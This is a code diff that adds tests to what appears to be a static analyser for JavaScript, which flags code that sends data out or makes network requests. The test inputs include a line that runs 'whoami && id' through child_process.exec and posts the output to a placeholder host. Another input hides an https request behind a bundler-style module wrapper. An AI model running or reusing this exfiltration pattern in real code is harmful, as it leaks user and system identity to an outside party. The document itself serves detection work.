@@ -154,6 +154,20 @@ test('modules in the dress of other modules are the same modules', () => {
   )
 })
 
+test('who the machine and its user are, told by a program', () => {
+  const from = (command: string) =>
+    acts(`require('child_process').exec('${command}', (e, out) => fetch('https://a.invalid/' + out))`, 'flow/send')[0]
+      ?.args['from']
+  assert.equal(from('whoami && id'), ['output', 'user'])
+  assert.equal(from('git --version'), ['output'])
+})
+
+test('a module below default, as rollup dresses it', () => {
+  const helper =
+    'function n(e) { var o = Object.create(null); Object.keys(e).forEach((k) => { o[k] = e[k] }); o.default = e; return Object.freeze(o) }'
+  assert.is(acts(`${helper} var h = n(require('https')); h.get('https://a.invalid/x')`, 'network/request').length, 1)
+})
+
 test('a key is told by what is done with it, and a signature tells nothing of it', () => {
   const key = (text: string) => acts(text, 'flow/send').flatMap(({ args }) => args['names'])
   const send = "fetch('https://a.invalid', { method: 'POST', body: "
